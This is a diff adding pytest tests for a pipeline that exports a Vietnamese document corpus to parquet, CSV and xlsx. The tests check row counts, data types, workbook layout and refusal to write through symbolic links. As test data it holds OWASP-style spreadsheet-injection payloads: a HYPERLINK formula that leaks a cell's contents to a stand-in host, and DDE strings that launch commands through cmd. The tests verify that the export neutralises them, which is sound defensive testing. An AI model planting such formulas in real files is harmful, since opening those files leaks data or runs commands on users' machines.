@@ -3,17 +3,27 @@ document-feature matrix for quanteda, and no writing into a non-empty folder wit
 
 from __future__ import annotations
 
+import atexit
+import csv
 import re
+import shutil
 import sqlite3
+import tempfile
+import zipfile
+from functools import cache
 from pathlib import Path
 
 import duckdb
 import openpyxl
 import pandas as pd
 import pytest
-from corpus_fixtures import corpus_store, daihoi
+from corpus_fixtures import corpus_store, daihoi, daihoi_on_read_only
 
-from pipeline.store.export import DFM_FILES, TABLES, export, read_back
+from conftest import corpus_file
+from pipeline.analysis import analyze
+from pipeline.contract import report_record
+from pipeline.store.database import Store
+from pipeline.store.export import DFM_FILES, TABLES, WORKBOOK, export, read_back
 
 COUNTS = {"documents": "documents", "paragraphs": "paragraphs", "sections": "sections",
           "references": "doc_references", "indicators": "indicators", "findings": "findings",
@@ -29,32 +39,150 @@ def _store_counts() -> dict[str, int]:
     return counts
 
 
+COUNTS["files"] = "files"
+
+
 @pytest.mark.parametrize("fmt", ["parquet", "csv", "xlsx"])
 def test_every_table_is_one_file_that_tools_read_back(tmp_path: Path, fmt: str) -> None:
     out = tmp_path / fmt
     done = export(corpus_store(), out, fmt)
-    assert sorted(p.name for p in out.iterdir()) == sorted(
-        [f"{t}.{fmt}" for t in TABLES] + list(DFM_FILES))
+    tables = [WORKBOOK] if fmt == "xlsx" else [f"{t}.{fmt}" for t in TABLES]
+    assert sorted(p.name for p in out.iterdir()) == sorted(tables + list(DFM_FILES))
     counts = _store_counts()
     assert done.rows == counts
+    if fmt == "xlsx":
+        book = openpyxl.load_workbook(out / WORKBOOK, read_only=True)
+        assert book.sheetnames == list(TABLES)
     for table in TABLES:
-        path = out / f"{table}.{fmt}"
-        assert len(read_back(path)) == counts[table], table
+        path = out / (WORKBOOK if fmt == "xlsx" else f"{table}.{fmt}")
+        sheet = table if fmt == "xlsx" else None
+        assert len(read_back(path, sheet)) == counts[table], table
         if fmt == "parquet":
             assert duckdb.sql(f"SELECT count(*) FROM '{path}'").fetchall() == [(counts[table],)]
         elif fmt == "csv" and counts[table]:
             assert duckdb.sql(f"SELECT count(*) FROM read_csv('{path}')").fetchall() == [
                 (counts[table],)]
         elif fmt == "xlsx":
-            sheet = openpyxl.load_workbook(path, read_only=True).active
-            assert sheet.max_row == counts[table] + 1  # a header row
-    docs = read_back(out / f"documents.{fmt}")
+            assert sum(1 for _ in book[table].iter_rows()) == counts[table] + 1  # a header
+    docs = read_back(out / (WORKBOOK if fmt == "xlsx" else f"documents.{fmt}"),
+                     "documents" if fmt == "xlsx" else None)
     assert "Đảng bộ xã Điện Hòa" in set(docs["unit"].dropna())
-    paragraphs = read_back(out / f"paragraphs.{fmt}")
+    # Every field of the documents' meta, those without a store column too.
+    assert {"reviewed_term", "issuer", "number", "signer", "n_files"} <= set(docs.columns)
+    # Integers stay integers: a page count is 11, not 11.0.
+    assert pd.api.types.is_integer_dtype(docs["year"]) and pd.api.types.is_integer_dtype(
+        docs["n_words"])
+    paragraphs = read_back(out / (WORKBOOK if fmt == "xlsx" else f"paragraphs.{fmt}"),
+                           "paragraphs" if fmt == "xlsx" else None)
     con = sqlite3.connect(corpus_store())
     first = con.execute("SELECT text FROM paragraphs ORDER BY doc_id, idx LIMIT 1").fetchone()[0]
     con.close()
     assert paragraphs["text"].iloc[0] == first
+
+
+PAYLOADS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Bấm vào đây")',
+            "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]
+
+
+@cache
+def hostile_store() -> Path:
+    """A store of a real PDF and of texts whose paragraphs begin with spreadsheet formulas
+    (the payloads of OWASP's CSV-injection page) and contain the word "nan" (nan giải)."""
+    folder = Path(tempfile.mkdtemp(prefix="daihoi_hostile_"))
+    atexit.register(shutil.rmtree, folder, ignore_errors=True)
+    texts = folder / "in"
+    texts.mkdir()
+    for i, payload in enumerate(PAYLOADS):
+        (texts / f"bao_cao_{i}.txt").write_text(
+            f"{payload}\n\nVấn đề nan giải của chi bộ số {i} là công tác phát triển đảng viên"
+            " trong thanh niên ở khu dân cư, cần tiếp tục tháo gỡ trong nhiệm kỳ tới.\n",
+            encoding="utf-8")
+    db = folder / "hostile.db"
+    with Store(db) as store:
+        for path in [*sorted(texts.iterdir()), corpus_file("pdf", "001_11fa4c8372dfa292")]:
+            report = analyze(path)
+            store.save(report, report_record(report))
+    return db
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(tmp_path: Path) -> None:
+    export(hostile_store(), tmp_path, "csv")
+    with (tmp_path / "paragraphs.csv").open(encoding="utf-8-sig", newline="") as f:
+        texts = [r["text"] for r in csv.DictReader(f)]
+    for payload in PAYLOADS:
+        assert "'" + payload in texts
+    assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in texts)
+    # Numbers stay numbers: integers as integers, not 11.0.
+    with (tmp_path / "documents.csv").open(encoding="utf-8-sig", newline="") as f:
+        docs = list(csv.DictReader(f))
+    pages = [r["pages"] for r in docs if r["format"] == "pdf"]
+    assert pages and all(p.isdigit() for p in pages), pages
+    assert all(r["n_words"].isdigit() for r in docs)
+    # The word "nan" is a feature of the matrix, and reads back as the string "nan".
+    triplets = read_back(tmp_path / "dfm_triplets.csv")
+    assert (triplets["feature"] == "nan").sum() == len(PAYLOADS)
+    assert triplets["feature"].notna().all()
+    assert pd.api.types.is_integer_dtype(triplets["count"])
+
+
+def test_xlsx_cells_are_strings_never_formulas(tmp_path: Path) -> None:
+    export(hostile_store(), tmp_path, "xlsx")
+    book = openpyxl.load_workbook(tmp_path / WORKBOOK)
+    cells = [c for row in book["paragraphs"].iter_rows(min_row=2) for c in row]
+    texts = {c.value for c in cells if c.data_type == "s"}
+    for payload in PAYLOADS:
+        assert payload in texts
+    assert not [c for c in cells if c.data_type == "f"]
+    with zipfile.ZipFile(tmp_path / WORKBOOK) as z:
+        xml = "".join(z.read(n).decode("utf-8") for n in z.namelist()
+                      if n.startswith("xl/worksheets/"))
+    assert "<f>" not in xml and "HYPERLINK" in xml
+    docs = book["documents"]
+    header = [c.value for c in docs[1]]
+    pages = [row[header.index("pages")] for row in docs.iter_rows(min_row=2, values_only=True)
+             if row[header.index("format")] == "pdf"]
+    assert pages and all(isinstance(p, int) for p in pages)
+
+
+def test_export_replaces_no_file_through_a_symbolic_link(tmp_path: Path) -> None:
+    secret = tmp_path / "passwd"
+    secret.write_text("root:x:0:0\n", encoding="utf-8")
+    out = tmp_path / "xuat"
+    out.mkdir()
+    (out / "documents.csv").symlink_to(secret)
+    status, _, err = daihoi("export", out, "--format", "csv", "--db", hostile_store(),
+                            "--force", "--lang", "en")
+    assert status == 2 and "link" in err and "documents.csv" in err
+    assert secret.read_text(encoding="utf-8") == "root:x:0:0\n"
+
+
+@pytest.mark.parametrize("where", ["under_a_file", "proc", "read_only"])
+def test_an_unwritable_target_is_a_message_and_exit_2(tmp_path: Path, where: str) -> None:
+    if where == "under_a_file":
+        (tmp_path / "tep").write_text("x", encoding="utf-8")
+        target = tmp_path / "tep" / "xuat"
+    elif where == "proc":
+        target = Path("/proc/daihoi_xuat")
+    else:
+        target = tmp_path / "ro" / "xuat"
+        target.parent.mkdir()
+    run = (lambda *a: daihoi_on_read_only(target.parent, *a)) if where == "read_only" \
+        else daihoi
+    for command in (["export", target, "--format", "csv"], ["report", target]):
+        status, out, err = run(*command, "--db", hostile_store(), "--lang", "en")
+        assert status == 2, (command, out, err)
+        assert "Traceback" not in err and "Cannot write" in err, err
+        assert str(target) in err
+
+
+def test_a_non_empty_workbook_sheet_has_a_bold_frozen_header_filters_and_widths(
+        tmp_path: Path) -> None:
+    export(corpus_store(), tmp_path, "xlsx")
+    sheet = openpyxl.load_workbook(tmp_path / WORKBOOK)["paragraphs"]
+    assert sheet.freeze_panes == "A2"
+    assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:")
+    assert all(c.font.b for c in sheet[1])
+    assert sheet.column_dimensions["J"].width > sheet.column_dimensions["A"].width
 
 
 def test_document_feature_matrix_for_quanteda(tmp_path: Path) -> None:
